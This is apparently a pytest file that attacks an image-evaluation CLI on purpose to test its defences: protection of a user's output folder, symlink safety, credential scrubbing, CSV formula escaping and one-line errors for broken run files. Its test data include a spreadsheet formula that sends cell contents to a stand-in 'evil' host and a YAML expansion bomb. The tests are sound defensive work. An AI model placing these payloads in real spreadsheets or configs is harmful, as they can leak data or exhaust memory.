"""`adir evaluate` tried as an attacker would (issue 21): a --out holding the user's files, credentials in a
run's URIs, ids that are spreadsheet formulas, a run made from a list file, and broken run files.

Each test failed on 4447955: files overwritten, a password in the tables and file names, formulas in the
CSVs, a list-file run's inputs refused, and tracebacks naming no file.
"""

from __future__ import annotations

import csv
import hashlib
import os

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from PIL import Image

from cluster.results import CONFIG_NAME, RESULTS_NAME, row_table
from pipelines import cli
from pipelines.evaluation import EvaluateConfig, evaluate, write
from tests.cluster.helpers import smooth_picture, write_pictures

pytestmark = pytest.mark.timeout(300)

PASSWORD = "hunter2PASS"
SIGNATURE = "s1gn4tur3TOKEN"


def _row(image_id, mode="baseline", psnr=20.0, uri=None, **fields):
    row = {
        "image_id": image_id,
        "uri": uri or f"/nonexistent/{image_id}.png",
        "name": hashlib.sha256(image_id.encode()).hexdigest()[:12],
        "task": "sr4",
        "mode": mode,
        "seed": 0,
        "image_seed": 1,
        "k": 3,
        "psnr": psnr,
        "ssim": 0.5,
        "naive_psnr": 19.0,
        "finished_at": "2026-01-01T00:00:00",
    }
    row["output"] = f"images/{row['name']}.png"
    row.update(fields)
    return row


def _write_run(folder, rows, pictures=True, **config):
    """A run folder as `adir reconstruct` leaves it: results.parquet, config.yaml and images/<name>.png."""
    os.makedirs(os.path.join(folder, "images"), exist_ok=True)
    pq.write_table(row_table(rows), os.path.join(folder, RESULTS_NAME))
    for seed, row in enumerate(rows):
        if pictures and row.get("output"):
            Image.fromarray(smooth_picture(seed, 32, 40)).save(os.path.join(folder, row["output"]))
    values = {"task": "sr4", "mode": rows[0]["mode"], "seed": 0, "k": 3, "inputs": "/nonexistent", **config}
    with open(os.path.join(folder, CONFIG_NAME), "w") as f:
        yaml.safe_dump(values, f)
    return str(folder)


def _digests(folder) -> dict[str, str]:
    found = {}
    for root, _, files in os.walk(folder):
        for name in files:
            with open(os.path.join(root, name), "rb") as f:
                found[os.path.relpath(os.path.join(root, name), folder)] = hashlib.sha256(f.read()).hexdigest()
    return found


def _evaluate(*argv) -> list[str]:
    return ["evaluate", *map(str, argv), "--metrics", "", "--no-progress"]


# ---------------------------------------------------------------------- case 2: whose --out is this
def test_an_out_holding_the_users_files_is_refused_and_our_own_is_rewritten(tmp_path, capsys):
    run = _write_run(tmp_path / "run", [_row("a"), _row("b")])
    userdocs = tmp_path / "userdocs"
    userdocs.mkdir()
    for name in ("results.md", "summary.csv", "report.html"):
        (userdocs / name).write_text(f"the user's own {name}")
    before, run_before = _digests(userdocs), _digests(run)
    capsys.readouterr()
    assert cli.main(_evaluate(run, "--out", userdocs)) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and str(userdocs) in err and "not empty" in err, err
    assert _digests(userdocs) == before

    # The run folder itself is an input: never an --out.
    assert cli.main(_evaluate(run, "--out", run)) == 2
    assert _digests(run) == run_before

    # A new folder is ours from the first run on, and a rerun rewrites it.
    ours = tmp_path / "evaluation"
    assert cli.main(_evaluate(run, "--out", ours)) == 0
    assert cli.main(_evaluate(run, "--out", ours)) == 0
    assert (ours / "adir-job.json").is_file() and (ours / "results.md").is_file()
    assert _digests(run) == run_before


def test_an_evaluation_from_before_the_marker_is_still_rewritten(tmp_path):
    """A folder holding exactly what evaluate writes (an older version's output, no marker) is ours."""
    run = _write_run(tmp_path / "run", [_row("a")])
    old = tmp_path / "old"
    assert cli.main(_evaluate(run, "--out", old)) == 0
    (old / "adir-job.json").unlink()
    assert cli.main(_evaluate(run, "--out", old)) == 0
    (old / "notes.txt").write_text("the user's")
    (old / "adir-job.json").unlink()
    assert cli.main(_evaluate(run, "--out", old)) == 2
    assert (old / "notes.txt").read_text() == "the user's"


def test_the_report_never_writes_through_a_link_inside_out(tmp_path):
    run = _write_run(tmp_path / "run", [_row("a")])
    out, elsewhere = tmp_path / "ev", tmp_path / "elsewhere"
    assert cli.main(_evaluate(run, "--out", out)) == 0
    elsewhere.mkdir()
    (out / "report_files").rename(elsewhere / "report_files")
    (out / "report_files").symlink_to(elsewhere / "report_files")
    before = _digests(elsewhere)
    assert cli.main(_evaluate(run, "--out", out)) == 2
    assert _digests(elsewhere) == before


# ---------------------------------------------------------------------- case 5: credentials
def test_credentials_in_a_runs_uris_reach_no_output_file_nor_file_name(tmp_path):
    host = f"http://admin:{PASSWORD}@127.0.0.1:9"
    inputs = f"{host}/in"
    secret_id = f"{host}/in/x?sig={SIGNATURE}"
    rows = [
        _row("a", "adir", uri=f"{inputs}/a.png", neighbour_ids=["n1", f"{host}/corpus/n2.png"]),
        _row(secret_id, "adir", uri=f"{inputs}/x.png"),
        _row("e", "adir", uri=f"{inputs}/e.png", output=None, stage="read", error=f"cannot read {inputs}/e.png"),
    ]
    adir = _write_run(tmp_path / "adir", rows, inputs=inputs, index=f"{host}/idx")
    # A second ADIR arm differing only in its index: the arms' labels name the index.
    other = _write_run(tmp_path / "adir2", rows[:2], inputs=inputs, index=f"{host}/idx2?X-Amz-Signature={SIGNATURE}")
    base = _write_run(tmp_path / "base", [_row("a", uri=f"{inputs}/a.png")], inputs=inputs)
    out = tmp_path / "eval"
    ev = evaluate(EvaluateConfig(runs=(adir, other, base), out=str(out), metrics=()))
    write(ev)
    names = [os.path.relpath(os.path.join(root, n), out) for root, dirs, files in os.walk(out) for n in dirs + files]
    assert {"results.md", "summary.csv", "paired.csv", "per_image.csv", "report.html"} <= set(names)
    for name in names:
        assert PASSWORD not in name and SIGNATURE not in name, name
        if os.path.isfile(out / name):
            data = (out / name).read_bytes()
            assert PASSWORD.encode() not in data and SIGNATURE.encode() not in data, name
    assert "admin:***@" in (out / "results.md").read_text() or "***@" in (out / "results.md").read_text()


# ---------------------------------------------------------------------- case 6: formula injection
FORMULAS = ('=HYPERLINK("http://evil/?"&A1,"x")', "+SUM(1,2)", "-2+3", "@SUM(1)", "\tx", "\rx")


def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(tmp_path):
    base = _write_run(tmp_path / "base", [_row(i, psnr=30.0) for i in FORMULAS])
    adir = _write_run(tmp_path / "adir", [_row(i, "adir", psnr=25.0) for i in FORMULAS])
    out = tmp_path / "eval"
    write(evaluate(EvaluateConfig(runs=(base, adir), out=str(out), metrics=(), report=False)))
    with open(out / "per_image.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    ids = {r["image_id"] for r in rows}
    assert ids == {"'" + i for i in FORMULAS}
    with open(out / "paired.csv", newline="") as f:
        paired = [r for r in csv.DictReader(f) if r["metric"] == "psnr"]
    assert float(paired[0]["mean_difference"]) == pytest.approx(-5.0)  # a negative number is not escaped
    for name in ("per_image.csv", "summary.csv", "paired.csv"):
        with open(out / name, newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not cell or cell[0] not in "=+@\t\r" and not (cell[0] == "-" and not _number(cell)), cell


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# ---------------------------------------------------------------------- case 12: a run made from a list file
@pytest.mark.timeout(600)
def test_a_run_made_from_a_list_file_evaluates_like_a_folder_run(ray_cluster, tmp_path):
    from cluster.config import ReconstructConfig
    from pipelines import reconstruct
    from tests.cluster.helpers import job_options

    pictures = write_pictures(str(tmp_path / "pictures"), [("a", 1), ("b", 2), ("c", 3)])
    listing = tmp_path / "lists" / "inputs.txt"
    listing.parent.mkdir()
    listing.write_text("\n".join(pictures) + "\n")
    config = ReconstructConfig(
        inputs=str(listing), out=str(tmp_path / "run"), **job_options(mode="baseline", steps=3, num_actors=1)
    )
    assert reconstruct.run(config, progress=False)["errors"] == 0
    ev = evaluate(EvaluateConfig(runs=(config.out,), out=str(tmp_path / "eval"), metrics=(), report=False))
    plain = next(a for a in ev.arms if a.mode == "plain")
    assert plain.missing == {} and sorted(plain.values) == ["a", "b", "c"]
    assert all("ssim" in v for v in plain.values.values())


# ---------------------------------------------------------------------- case 22: broken run files
def _garbage_parquet(run):
    (run / RESULTS_NAME).write_bytes(os.urandom(200))


def _columns_missing(run):
    pq.write_table(pa.table({"image_id": ["a"], "psnr": [20.0]}), run / RESULTS_NAME)


def _wrong_types(run):
    table = pq.read_table(run / RESULTS_NAME)
    table = table.set_column(table.schema.get_field_index("psnr"), "psnr", pa.array(["high"] * table.num_rows))
    pq.write_table(table, run / RESULTS_NAME)


def _null_task(run):
    table = pq.read_table(run / RESULTS_NAME).cast(pa.schema([f.with_nullable(True) for f in row_table([]).schema]))
    table = table.set_column(table.schema.get_field_index("task"), "task", pa.array([None], pa.string()))
    pq.write_table(table, run / RESULTS_NAME)


def _fifo(run):
    (run / RESULTS_NAME).unlink()
    os.mkfifo(run / RESULTS_NAME)


def _garbage_yaml(run):
    (run / CONFIG_NAME).write_text("garbage: [\n")


def _yaml_bomb(run):
    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    levels += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    (run / CONFIG_NAME).write_text("\n".join(levels) + "\n")


def _yaml_not_a_mapping(run):
    (run / CONFIG_NAME).write_text("- a\n- b\n")


def _yaml_odd_keys(run):
    (run / CONFIG_NAME).write_text("task: sr4\nmode: baseline\n1: x\n")


@pytest.mark.parametrize(
    "spoil, file, words",
    [
        (_garbage_parquet, RESULTS_NAME, "is not a Parquet file"),
        (_columns_missing, RESULTS_NAME, "lacks columns"),
        (_wrong_types, RESULTS_NAME, "column psnr"),
        (_null_task, RESULTS_NAME, "no task"),
        (_fifo, RESULTS_NAME, "FIFO"),
        (_garbage_yaml, CONFIG_NAME, "not valid YAML"),
        (_yaml_bomb, CONFIG_NAME, "expands to more than"),
        (_yaml_not_a_mapping, CONFIG_NAME, "not a mapping"),
        (_yaml_odd_keys, CONFIG_NAME, "not a mapping"),
    ],
)
def test_a_broken_run_file_is_named_in_one_line_with_the_fix(tmp_path, capsys, spoil, file, words):
    run = tmp_path / "run"
    _write_run(run, [_row("a")])
    spoil(run)
    capsys.readouterr()
    assert cli.main(_evaluate(run, "--out", tmp_path / "ev")) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1, err
    assert f"{run}/{file}" in err and words in err and "adir reconstruct" in err, err


def test_an_output_png_that_does_not_decode_is_a_missing_value_not_a_crash(tmp_path):
    run = tmp_path / "run"
    _write_run(run, [_row("a"), _row("b")], inputs=str(tmp_path))
    row = pq.read_table(run / RESULTS_NAME).to_pylist()[0]
    (run / row["output"]).write_bytes(b"\x89PNG\r\n\x1a\n truncated")
    out = tmp_path / "ev"
    ev = evaluate(EvaluateConfig(runs=(str(run),), out=str(out), metrics=("psnry",)))
    write(ev)
    baseline = next(a for a in ev.arms if a.mode == "baseline")
    assert baseline.values["a"]["psnr"] == 20.0  # the stored value stays
    assert "unreadable" in (out / "report.html").read_text()
